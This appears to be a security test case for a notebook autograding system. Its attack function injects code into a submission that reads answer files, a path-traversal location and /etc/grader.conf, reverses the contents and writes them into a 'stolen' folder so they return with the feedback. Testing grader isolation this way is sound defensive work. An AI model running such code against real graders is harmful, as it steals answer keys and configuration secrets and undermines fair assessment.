"""Secrets are written to files next to the notebook, which return with the feedback.

Success: a canary in a file of autograded/ or feedback/.
"""


def attack(submission):
    submission.first("""
        import os
        for place in ("/srv/course/answers.py", "../../../answers.py", "/etc/grader.conf"):
            try:
                data = open(place).read()
                os.makedirs("stolen", exist_ok=True)
                open("stolen/" + place.replace("/", "_"), "w").write(data[::-1])
            except OSError:
                pass
    """)
